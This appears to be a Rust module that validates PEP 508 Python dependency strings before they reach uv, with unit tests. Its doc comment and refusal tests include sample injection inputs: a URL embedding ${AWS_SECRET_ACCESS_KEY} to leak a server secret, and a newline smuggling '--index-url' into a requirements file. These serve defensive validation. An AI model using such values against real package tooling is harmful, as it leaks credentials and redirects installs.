//! One dependency: parsing a PEP 508 string safely, PEP 503 names, exact pins.

use std::str::FromStr;

use pep440_rs::Operator;
use pep508_rs::{Requirement, VersionOrUrl};

use crate::error::{ScriptError, UnsafeReason};

/// Longest dependency specifier accepted, in bytes. Marker handling in pep508_rs grows much
/// faster than the text (measured in release: 1.9 kB → 22 ms, 4.9 kB → 0.7 s, 7.3 kB → 6.4 s),
/// and a real specifier, even a URL with a hash, is a few hundred bytes.
pub const MAX_REQUIREMENT_BYTES: usize = 1024;

/// Deepest parenthesis nesting accepted in a dependency specifier. The marker parser recurses
/// on each level; thousands overflow the stack, which aborts the process (no unwinding).
pub const MAX_MARKER_NESTING: usize = 32;

/// How deep parentheses nest in `input` (quotes ignored: this only has to bound recursion).
fn nesting_depth(input: &str) -> usize {
    let mut depth: usize = 0;
    let mut deepest = 0;
    for c in input.chars() {
        match c {
            '(' => {
                depth += 1;
                deepest = deepest.max(depth);
            }
            ')' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    deepest
}

/// Parses one PEP 508 dependency specifier, refusing what would be unsafe to hand to uv.
///
/// Refused before parsing (as [`ScriptError::UnsafeRequirement`]):
/// - more than [`MAX_REQUIREMENT_BYTES`] bytes, or parentheses nested deeper than
///   [`MAX_MARKER_NESTING`]: the parser would take seconds, or overflow its stack;
/// - `${NAME}`: the PEP 508 parser (and uv) expand it from the *server's* environment when it
///   appears in a URL, so `pkg @ https://attacker/${SECRET}` would send a secret out.
/// - control characters other than tab: a newline inside a marker string would survive into a
///   requirements file as a second line (`--index-url …`).
///
/// # Errors
///
/// [`ScriptError::UnsafeRequirement`] as above, [`ScriptError::InvalidRequirement`] when the
/// string is not a PEP 508 dependency specifier.
pub fn parse_requirement(input: &str) -> Result<Requirement, ScriptError> {
    let unsafe_reason = if input.len() > MAX_REQUIREMENT_BYTES {
        Some(UnsafeReason::TooLong)
    } else if nesting_depth(input) > MAX_MARKER_NESTING {
        Some(UnsafeReason::TooDeep)
    } else if input.contains("${") {
        Some(UnsafeReason::EnvironmentVariable)
    } else if input.chars().any(|c| c.is_control() && c != '\t') {
        Some(UnsafeReason::ControlCharacter)
    } else {
        None
    };
    if let Some(reason) = unsafe_reason {
        return Err(ScriptError::UnsafeRequirement {
            requirement: input.to_owned(),
            reason,
        });
    }
    let invalid = |reason: String| ScriptError::InvalidRequirement {
        requirement: input.to_owned(),
        reason,
    };
    // PEP 508's grammar is ASCII throughout: `letter = 'A'..'Z' | 'a'..'z'`, quoted marker
    // strings are made of `python_str_c` (ASCII letters, digits, punctuation), URLs are
    // RFC 3986 URIs. Checking it first also keeps non-ASCII text away from pep508_rs 0.9, which mixes up
    // character counts and byte offsets and panics on some (`a; python_version < '3' xä`).
    if let Some(c) = input.chars().find(|c| !c.is_ascii()) {
        return Err(invalid(format!(
            "dependency specifiers are ASCII, found `{c}` (percent-encode it in a URL)"
        )));
    }
    if let Some(reason) = identifier_ending_badly(input) {
        return Err(invalid(reason));
    }
    // pep508_rs 0.9 has `expect`s on paths we know of (guarded above); a panic we do not know
    // of must still not take the server down with it.
    let parsed = std::panic::catch_unwind(|| Requirement::from_str(input))
        .map_err(|_| invalid("the dependency specifier parser failed on it".to_owned()))?;
    parsed.map_err(|err| {
        // Not `err.to_string()`: that `Display` draws an underline and asserts on its span.
        invalid(format!("{} (at character {})", err.message, err.start + 1))
    })
}

/// A name or extra that starts like an identifier but ends in `.`, `-` or `_`, followed by
/// more text (`foo_ >=1`, `foo[bar-]`): pep508_rs 0.9 accepts it while scanning, then
/// `expect`s that it is valid and panics. Found by `tests/fuzz_smoke.rs`.
///
/// > PEP 508: `identifier = letterOrDigit identifier_end*`,
/// > `identifier_end = letterOrDigit | (('-' | '_' | '.' )* letterOrDigit)`
fn identifier_ending_badly(input: &str) -> Option<String> {
    let is_identifier_char = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_');
    let check = |text: &str, what: &str| -> Option<String> {
        let identifier = &text[..text.find(|c| !is_identifier_char(c)).unwrap_or(text.len())];
        let starts_well = identifier.starts_with(|c: char| c.is_ascii_alphanumeric());
        let last = identifier.chars().next_back()?;
        (starts_well && !last.is_ascii_alphanumeric())
            .then(|| format!("{what} must end with a letter or digit, not `{last}`"))
    };
    let rest = input.trim_start();
    if let Some(problem) = check(rest, "the package name") {
        return Some(problem);
    }
    let name_len = rest.find(|c| !is_identifier_char(c)).unwrap_or(rest.len());
    let extras = rest[name_len..].trim_start().strip_prefix('[')?;
    let extras = &extras[..extras.find(']').unwrap_or(extras.len())];
    extras
        .split(',')
        .find_map(|extra| check(extra.trim_start(), "an extra name"))
}

/// Normalises a distribution name.
///
/// > PEP 503: "the name should be lowercased with all runs of the characters `.`, `-`, or `_`
/// > replaced with a single `-` character", i.e. `re.sub(r"[-_.]+", "-", name).lower()`.
#[must_use]
pub fn normalize_name(name: &str) -> String {
    let mut out = String::with_capacity(name.len());
    let mut in_run = false;
    for c in name.chars() {
        if matches!(c, '-' | '_' | '.') {
            if !in_run {
                out.push('-');
            }
            in_run = true;
        } else {
            out.extend(c.to_lowercase());
            in_run = false;
        }
    }
    out
}

/// True when the requirement pins one exact version: it has a `==` specifier without a wildcard
/// (`numpy==2.1.3`, `torch==2.4.0+cpu`, `a==1.0; python_version < "3.12"`).
///
/// False for ranges, `==1.*`, `===` (arbitrary equality), no version at all, and URLs (whose
/// content can change behind the same string). Only the requirement itself is pinned: its own
/// dependencies still resolve, so a cache keyed on pinned requirements is fresh as long as
/// those resolve the same way.
#[must_use]
pub fn is_exact_pin(req: &Requirement) -> bool {
    match &req.version_or_url {
        Some(VersionOrUrl::VersionSpecifier(specifiers)) => specifiers
            .iter()
            .any(|specifier| *specifier.operator() == Operator::Equal),
        Some(VersionOrUrl::Url(_)) | None => false,
    }
}

#[cfg(test)]
mod tests {
    use assert_matches::assert_matches;

    use super::*;

    macro_rules! normalized {
        ($($name:ident: $input:expr => $expected:expr;)*) => {$(
            #[test]
            fn $name() {
                assert_eq!(normalize_name($input), $expected);
            }
        )*};
    }

    normalized! {
        normalize_underscore: "Foo_Bar" => "foo-bar";
        normalize_dot: "foo.bar" => "foo-bar";
        normalize_dash: "foo-bar" => "foo-bar";
        normalize_runs: "Foo.-_Bar" => "foo-bar";
        normalize_upper: "PyYAML" => "pyyaml";
        normalize_leading_and_trailing: "_foo_" => "-foo-";
    }

    macro_rules! pinned {
        ($($name:ident: $input:expr => $expected:expr;)*) => {$(
            #[test]
            fn $name() {
                let req = parse_requirement($input).unwrap();
                assert_eq!(is_exact_pin(&req), $expected, "{}", $input);
            }
        )*};
    }

    pinned! {
        pin_exact: "numpy==2.1.3" => true;
        pin_exact_with_spaces: "numpy == 2.1.3" => true;
        pin_local_version: "torch==2.4.0+cpu" => true;
        pin_with_marker: "a==1.0; python_version < '3.12'" => true;
        pin_with_extras: "requests[socks]==2.31.0" => true;
        pin_wildcard: "numpy==2.*" => false;
        pin_range: "numpy>=2" => false;
        pin_compatible: "numpy~=2.1" => false;
        pin_arbitrary_equality: "numpy===2.1.3" => false;
        pin_bare_name: "numpy" => false;
        pin_url: "pkg @ https://example.invalid/pkg-1.0.tar.gz" => false;
    }

    macro_rules! refused {
        ($($name:ident: $input:expr => $pattern:pat,)*) => {$(
            #[test]
            fn $name() {
                assert_matches!(parse_requirement($input), Err($pattern));
            }
        )*};
    }

    refused! {
        refuse_env_var_in_url: "pkg @ https://example.invalid/${AWS_SECRET_ACCESS_KEY}"
            => ScriptError::UnsafeRequirement { reason: UnsafeReason::EnvironmentVariable, .. },
        refuse_newline_in_marker: "a; platform_machine == 'x\n--index-url http://x'"
            => ScriptError::UnsafeRequirement { reason: UnsafeReason::ControlCharacter, .. },
        refuse_nul: "a\0" => ScriptError::UnsafeRequirement { .. },
        refuse_deep_parentheses: &format!("a; {}python_version > '3'{}", "(".repeat(500), ")".repeat(500))
            => ScriptError::UnsafeRequirement { reason: UnsafeReason::TooDeep, .. },
        refuse_long_marker: &format!("a; {}", vec!["(python_full_version >= '3.1' and sys_platform == 'p')"; 60].join(" or "))
            => ScriptError::UnsafeRequirement { reason: UnsafeReason::TooLong, .. },
        refuse_option: "--index-url=http://x" => ScriptError::InvalidRequirement { .. },
        refuse_editable: "-e ." => ScriptError::InvalidRequirement { .. },
        refuse_empty: "" => ScriptError::InvalidRequirement { .. },
        // These made pep508_rs 0.9 panic (found by the fuzz smoke test).
        refuse_name_ending_in_dot_before_more: "def.* x" => ScriptError::InvalidRequirement { .. },
        refuse_name_ending_in_dash_before_specifier: "foo- >=1" => ScriptError::InvalidRequirement { .. },
        refuse_name_ending_in_underscore_before_extras: "foo_[x]" => ScriptError::InvalidRequirement { .. },
        refuse_extra_ending_in_dash: "foo[bar-]" => ScriptError::InvalidRequirement { .. },
        refuse_second_extra_ending_in_dot: "foo[a, b.]>=1" => ScriptError::InvalidRequirement { .. },
        refuse_name_ending_in_dot: "foo." => ScriptError::InvalidRequirement { .. },
        refuse_non_ascii_after_marker: "a; python_version < '3' xä" => ScriptError::InvalidRequirement { .. },
        refuse_non_ascii_name: "nümpy" => ScriptError::InvalidRequirement { .. },
        refuse_non_ascii_in_url: "a @ https://example.invalid/ä.whl" => ScriptError::InvalidRequirement { .. },
    }

    #[test]
    fn identifiers_ending_in_punctuation_are_found() {
        assert_eq!(identifier_ending_badly("foo"), None);
        assert_eq!(identifier_ending_badly("foo.bar[a-b, c_d] >= 1"), None);
        assert_eq!(identifier_ending_badly("-foo"), None); // pep508_rs reports this one itself
        assert!(identifier_ending_badly("  foo- ").is_some());
        assert!(identifier_ending_badly("foo [ok, bad_ ]").is_some());
    }

    #[test]
    fn limits_leave_room_for_real_specifiers() {
        let nested = format!(
            "a; {}python_version > '3'{}",
            "(".repeat(32),
            ")".repeat(32)
        );
        assert!(parse_requirement(&nested).is_ok());
        let url = format!(
            "pkg @ https://example.invalid/{}.whl#sha256={}",
            "p".repeat(200),
            "0".repeat(64)
        );
        assert!(parse_requirement(&url).is_ok());
    }

    #[test]
    fn tab_is_whitespace() {
        let req = parse_requirement("numpy\t>=2").unwrap();
        assert_eq!(req.to_string(), "numpy>=2");
    }
}
